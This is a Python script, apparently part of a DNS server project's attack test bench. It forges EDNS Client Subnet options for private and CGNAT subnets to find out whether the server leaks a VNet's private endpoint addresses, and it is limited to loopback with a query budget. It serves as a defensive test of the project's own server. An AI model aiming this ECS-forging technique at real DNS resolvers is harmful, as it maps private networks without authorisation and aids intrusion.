"""Attack (issue 9, item 1): forge EDNS Client Subnet to read a VNet's private endpoint IPs.

A public client sends queries for the registry's names with ECS set to private subnets (RFC 1918 and
CGNAT, one /24 at the start of every /16), compares each answer with the public answer, and for every
subnet that changes it, asks every name again: whatever addresses come back that the public answers
never contain are the VNet's private IPs. Bounded (default 800 queries, 60 s), loopback only.

    .venv/bin/python bench/attacks/ecs_private_leak.py --port 5353 [--tcp] [--source 127.0.0.1]

Prints what leaked; exit status 1 when anything did, 0 when nothing did, 2 on bad arguments.
"""
from __future__ import annotations

import ipaddress
import sys

import dns.edns
import dns.message
import dns.rdatatype

from attacklib import REGISTRY, REPLICAS, ZONE, Budget, ask, loopback_target, parser

from dnsd.names import data_name, global_name, regional_name


def candidate_subnets():
    """/24s at the start of each /16 of the private ranges: a view on a /16 (or any shorter prefix)
    matches one of them."""
    for second in range(256):
        yield f"10.{second}.0.0/24"
    for second in range(16, 32):
        yield f"172.{second}.0.0/24"
    yield "192.168.0.0/24"
    for second in range(64, 128):
        yield f"100.{second}.0.0/24"
    for third in range(1, 256):
        yield f"192.168.{third}.0/24"


def addresses(reply: dns.message.Message | None) -> set[str]:
    if reply is None:
        return set()
    return {rdata.address for rrset in reply.answer if rrset.rdtype in (dns.rdatatype.A, dns.rdatatype.AAAA)
            for rdata in rrset}


def main() -> int:
    p = parser(__doc__.splitlines()[0], max_queries=800)
    p.add_argument("--zone", default=ZONE)
    p.add_argument("--registry", default=REGISTRY)
    p.add_argument("--replicas", default=",".join(REPLICAS),
                   help="replica names (they show in the public chain, so an attacker knows them)")
    p.add_argument("--tcp", action="store_true", help="ask over TCP instead of UDP")
    p.add_argument("--source", help="local address to send from (default: the kernel's choice)")
    args = p.parse_args()
    target = loopback_target(args)
    budget = Budget(args.max_queries, args.seconds)
    zone, reg = args.zone, args.registry
    names = [global_name(reg, zone)] + [name(reg, rep, zone) for rep in args.replicas.split(",")
                                        for name in (regional_name, data_name)]

    def query(name: str, ecs: str | None):
        if not budget.take():
            return None
        options = []
        if ecs:
            network = ipaddress.ip_network(ecs)
            options.append(dns.edns.ECSOption(str(network.network_address), network.prefixlen))
        message = dns.message.make_query(name, "A", use_edns=0, options=options)
        return ask(target, message, tcp=args.tcp, source=args.source)

    public = set()
    for name in names:
        public |= addresses(query(name, None))
    if not public:
        print(f"no public answer from {target[0]}:{target[1]} for {names[0]}: is dnsd running?")
        return 2
    hits = []
    for subnet in candidate_subnets():
        reply = query(names[0], subnet)
        if budget.sent >= budget.max_queries and reply is None:
            break
        if addresses(reply) - public:
            hits.append(subnet)
            break  # one subnet inside the VNet is enough to read all its addresses
    sweep = budget.sent
    leaked: dict[str, set[str]] = {}
    for subnet in hits:
        for name in names:
            found = addresses(query(name, subnet)) - public
            if found:
                leaked[name] = found
    transport = "TCP" if args.tcp else "UDP"
    print(f"{budget.sent} queries over {transport} to {target[0]}:{target[1]} "
          f"({sweep} to sweep {'up to ' if not hits else ''}private subnets by ECS)")
    if not leaked:
        print("leaked: none (forged ECS did not reach any private answer)")
        return 0
    print(f"VNet found by ECS {hits[0]} after {sweep} queries")
    total = sorted({ip for ips in leaked.values() for ip in ips}, key=ipaddress.ip_address)
    print(f"leaked: {len(total)} private addresses: {', '.join(total)}")
    for name, ips in leaked.items():
        print(f"  {name}: {', '.join(sorted(ips))}")
    return 1


if __name__ == "__main__":
    sys.exit(main())
